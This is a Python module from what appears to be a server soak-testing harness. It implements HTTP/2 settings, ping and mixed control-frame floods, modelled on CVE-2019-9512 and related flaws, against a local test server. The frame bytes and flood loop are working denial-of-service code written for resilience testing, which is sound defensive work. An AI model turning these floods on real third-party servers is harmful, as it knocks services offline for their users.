"""Soak attacks on HTTP/2 control frames (area ``h2``): frames each of which costs the server
work and most an answer, sent as fast as a socket takes them (CVE-2019-9512 ping flood,
-9515 settings flood, -9513 priority churn, -9517 window-update churn), from 127.0.0.70-79:

- ``h2-settings-flood``: empty SETTINGS frames (each ACKed), 64 KiB at a time;
- ``h2-ping-flood``: PING frames (each answered), the answers never read;
- ``h2-mixed-flood``: PRIORITY, WINDOW_UPDATE and empty DATA frames on stream 0 and 1.

Each holds one connection at a time for up to 10 s and dials again when the server closes it.
``python tools/soak.py --only h2-ping-flood`` runs one beside the legitimate client.
"""

from __future__ import annotations

import asyncio
import ssl
import time

from soakbase import Attack, Server, Tally, quietly

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
PING = b"\x00\x00\x08\x06\x00\x00\x00\x00\x00" + b"soakping"
PRIORITY = b"\x00\x00\x05\x02\x00\x00\x00\x00\x03" + b"\x00\x00\x00\x01\x10"
WINDOW_UPDATE = b"\x00\x00\x04\x08\x00\x00\x00\x00\x00" + b"\x00\x00\x00\x01"
EMPTY_DATA = b"\x00\x00\x00\x00\x00\x00\x00\x00\x01"
BATCH = 64 * 1024
HOLD = 10.0


async def flood(server: Server, tally: Tally, stop: float, name: str, source: str,
                frames: bytes) -> None:
    """Dial HTTP/2 from ``source`` and write ``frames`` repeated, without reading, until the
    server closes the connection or :data:`HOLD` s pass; again until ``stop``."""
    batch = frames * max(1, BATCH // len(frames))
    while time.monotonic() < stop:
        async def once() -> None:
            context = ssl.create_default_context(cafile=server.ca_file)
            context.set_alpn_protocols(["h2"])
            _, writer = await asyncio.wait_for(asyncio.open_connection(
                "127.0.0.1", server.https_port, ssl=context, local_addr=(source, 0)), 15)
            try:
                writer.write(PREFACE + SETTINGS)
                until = min(stop, time.monotonic() + HOLD)
                while time.monotonic() < until and not writer.is_closing():
                    writer.write(batch)
                    tally.tried[name] += len(batch) // len(frames)
                    await asyncio.wait_for(writer.drain(), 5)
            finally:
                writer.transport.abort()
        await quietly(once())
        await asyncio.sleep(0.2)


async def settings_flood(server: Server, tally: Tally, stop: float) -> None:
    await flood(server, tally, stop, "h2-settings-flood", "127.0.0.70", SETTINGS)


async def ping_flood(server: Server, tally: Tally, stop: float) -> None:
    await flood(server, tally, stop, "h2-ping-flood", "127.0.0.71", PING)


async def mixed_flood(server: Server, tally: Tally, stop: float) -> None:
    await flood(server, tally, stop, "h2-mixed-flood", "127.0.0.72",
                PRIORITY + WINDOW_UPDATE + EMPTY_DATA)


ATTACKS: dict[str, Attack] = {
    "h2-settings-flood": settings_flood,
    "h2-ping-flood": ping_flood,
    "h2-mixed-flood": mixed_flood,
}
